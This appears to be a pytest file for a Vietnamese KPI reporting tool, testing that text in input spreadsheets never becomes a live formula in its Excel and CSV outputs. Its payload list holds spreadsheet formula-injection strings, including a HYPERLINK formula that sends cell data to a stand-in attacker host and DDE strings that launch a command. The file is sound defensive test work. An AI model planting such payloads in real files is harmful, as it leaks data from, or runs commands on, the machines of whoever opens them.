"""Formula injection (issue 6, part 3): text from an input never becomes a formula in an output.

Every text column of the inputs carries a payload; `score`, `validate --annotate` and `template
worklogs` run on them; every cell of every workbook written is read back with openpyxl.
"""

from __future__ import annotations

import copy
import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kpitool.io.safetext import neutralise_csv, neutralise_series
from tests.hardening import invoke
from tests.xlsxbuild import CATALOG, NORMS, WORKLOG_HEADER, D

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
    "\r=2+2",
]


def payload(n: int, prefix: str = "") -> str:
    return PAYLOADS[n % len(PAYLOADS)] + prefix


def write_text_book(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """Like xlsxbuild.write_book, but a text starting with '=' stays text (openpyxl would make
    it a formula)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(list(row))
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    book.save(path)
    return path


def poisoned_inputs(folder: Path) -> list[Path]:
    """The minimal valid set with a payload in every free-text column of every sheet."""
    catalog = copy.deepcopy(CATALOG)
    for n, row in enumerate(catalog["Đơn vị"][1:]):
        row[1] = payload(n, " phường")
    for n, row in enumerate(catalog["Vị trí việc làm"][1:]):
        row[1] = payload(n + 1, " vị trí")
    for n, row in enumerate(catalog["Danh mục công việc"][1:]):
        row[1], row[3], row[4] = payload(n + 2, " việc"), payload(n + 3), payload(n + 4)
    for n, row in enumerate(catalog["Cán bộ"][1:]):
        row[1] = payload(n + 5, " Nguyễn Văn An")
    header = [*WORKLOG_HEADER, "Ghi chú"]
    rows = [header]
    for n, (staff, task) in enumerate([("007", "T1"), ("007", "T2"), ("001", "T3"),
                                       ("008", "T1"), ("007", "T1"), ("008", "T1"),
                                       ("001", "T3")]):
        day = D(2026, 3, 2 + n)
        rows.append([n + 1, day, staff, task, payload(n, " nội dung"), 1, 2, None, day,
                     payload(n + 1, f"/{n}"), "Đã duyệt", "Đạt", "001", payload(n + 2)])
    return [write_text_book(folder / "catalog.xlsx", catalog),
            write_text_book(folder / "norms.xlsx", NORMS),
            write_text_book(folder / "worklogs.xlsx", {"Nhật ký": rows})]


def assert_no_formula_from_inputs(path: Path) -> int:
    """Every cell holding a payload is a text cell with the payload visible; returns how many."""
    book = openpyxl.load_workbook(path)
    seen = 0
    try:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    value = cell.value
                    if not isinstance(value, str):
                        continue
                    risky = any(p.strip() in value for p in PAYLOADS)
                    if cell.data_type == "f":
                        assert not risky, (path.name, sheet.title, cell.coordinate, value)
                        continue
                    assert cell.data_type in ("s", "inlineStr"), (path.name, cell.coordinate)
                    seen += risky
    finally:
        book.close()
    return seen


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return poisoned_inputs(tmp_path_factory.mktemp("poisoned"))


def test_inputs_really_carry_the_payloads_as_text(poisoned: list[Path]) -> None:
    assert assert_no_formula_from_inputs(poisoned[0]) >= 10
    assert assert_no_formula_from_inputs(poisoned[2]) >= 21


@pytest.mark.parametrize("row_by_row", [False, True], ids=["cells-held", "row-by-row"])
def test_score_outputs_keep_every_payload_as_text(poisoned: list[Path], tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch,
                                                  row_by_row: bool) -> None:
    if row_by_row:  # as a country's ranked report is written: inline strings, row by row
        monkeypatch.setattr("kpitool.reports.scorebook.ROWWISE_FROM_CELLS", 0)
    out = tmp_path / "out"
    result = invoke("score", str(poisoned[2]), "--out", str(out), "--period", "2026-03")
    assert result.exit_code == 0, result.output
    books = sorted(out.rglob("*.xlsx"))
    assert len(books) == 4  # the report and three units
    seen = {book.name: assert_no_formula_from_inputs(book) for book in books}
    assert seen["kpi_2026-03.xlsx"] >= 10, seen
    assert all(count > 0 for count in seen.values()), seen
    report = openpyxl.load_workbook(out / "kpi_2026-03.xlsx")
    texts = {c.value for s in report.worksheets for r in s.iter_rows() for c in r}
    report.close()
    assert {PAYLOADS[5] + " Nguyễn Văn An", PAYLOADS[0] + " Nguyễn Văn An"} <= texts


def test_annotated_copy_keeps_every_payload_as_text(poisoned: list[Path], tmp_path: Path) -> None:
    bad = tmp_path / "worklogs.xlsx"
    book = openpyxl.load_workbook(poisoned[2])
    book["Nhật ký"]["G2"].value = "nhiều giờ"  # one bad cell so that there is something to mark
    for row in book["Nhật ký"].iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(bad)
    book.close()
    marked = tmp_path / "marked.xlsx"
    result = invoke("validate", str(poisoned[0]), str(poisoned[1]), str(bad), "--annotate",
                    str(marked))
    assert result.exit_code == 1 and marked.exists(), result.output
    assert assert_no_formula_from_inputs(marked) >= 21


def test_worklog_template_keeps_every_payload_as_text(poisoned: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "mau.xlsx"
    result = invoke("template", "worklogs", "--catalog", str(poisoned[0]), "--norms",
                    str(poisoned[1]), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert assert_no_formula_from_inputs(out) >= 6  # staff names and task names in the lookups


def test_analyst_report_keeps_every_payload_as_text(poisoned: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = invoke("report", str(poisoned[2]), "--out", str(out), "--period", "2026-03")
    assert result.exit_code == 0, result.output
    books = sorted(out.rglob("*.xlsx"))
    assert books
    assert sum(assert_no_formula_from_inputs(book) for book in books) > 0


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-1+1", "'-1+1", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("Nguyễn Văn An", "Nguyễn Văn An", id="plain-text"),
        pytest.param("12/UBND", "12/UBND", id="document-number"),
        pytest.param("a=b", "a=b", id="equals-inside"),
        pytest.param("", "", id="empty"),
    ],
)
def test_neutralise_csv(value: str, expected: str) -> None:
    assert neutralise_csv(value) == expected
    assert neutralise_series(pd.Series([value, None])).tolist()[0] == expected


@pytest.mark.parametrize("coded", [False, True], ids=["text", "categories"])
def test_detail_csv_neutralises_every_payload(tmp_path: Path, coded: bool) -> None:
    from kpitool.reports.detail import write_detail_files

    # a large run's codes are categories: their text is neutralised once per distinct value
    codes = pd.Series(PAYLOADS, dtype="category") if coded else PAYLOADS
    frame = pd.DataFrame({"staff_id": codes, "output_ref": PAYLOADS,
                          "hours": [1.5] * len(PAYLOADS)})
    path = write_detail_files(frame, ["staff_id", "output_ref", "hours"],
                              tmp_path / "detail.csv", "vi")[0]
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert len(cells) == 2 * len(PAYLOADS)
    assert all(cell.startswith("'") for cell in cells), cells
    assert [row[2] for row in rows[1:]] == ["1.5"] * len(PAYLOADS)
